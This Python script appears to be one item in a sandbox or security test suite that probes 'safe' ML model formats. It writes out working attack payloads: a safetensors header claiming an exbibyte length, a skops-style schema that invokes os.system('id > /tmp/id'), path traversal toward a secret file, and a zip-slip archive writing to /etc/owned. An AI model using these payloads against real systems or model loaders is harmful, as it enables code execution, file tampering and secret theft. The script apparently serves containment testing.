"""16: model formats that are called safe, with a payload for whoever trusts what they say of themselves."""

import importlib
import json
import os
import struct
import zipfile

from attempt import attempt, done, read, target, written

# safetensors: the header says how long it is.
with open("model.safetensors", "wb") as file:
    file.write(struct.pack("<Q", 1 << 60) + b"{}")


def load_tensors():
    with open("model.safetensors", "rb") as file:
        return bytearray(struct.unpack("<Q", file.read(8))[0])


# skops: the schema names the class to call.
with zipfile.ZipFile("model.skops", "w") as archive:
    archive.writestr("schema.json", json.dumps({"__module__": "os", "__class__": "system", "args": ["id > /tmp/id"]}))


def load_schema():
    with zipfile.ZipFile("model.skops") as archive:
        schema = json.loads(archive.read("schema.json"))
    getattr(importlib.import_module(schema["__module__"]), schema["__class__"])(*schema["args"])
    return written("/etc/owned") or written(target("SECRET") + ".owned")


# ONNX: weights lie in a file of their own, whose path the model names.
location = os.path.join("/work", "../../../../../..", target("SECRET").lstrip("/"))
attempt("load a model that needs an exbibyte", load_tensors)
attempt("load a model that names a function", load_schema)
attempt("load weights from outside", lambda: read(location))


# An archive whose members climb out.
def unpack():
    with zipfile.ZipFile("weights.zip", "w") as archive:
        archive.writestr("../../../../../../etc/owned", "x")
        archive.writestr(target("SECRET") + ".owned", "x")
    with zipfile.ZipFile("weights.zip") as archive:
        for name in archive.namelist():
            written(os.path.join("/work", name), archive.read(name))
    return True


attempt("unpack to anywhere", unpack)
done()
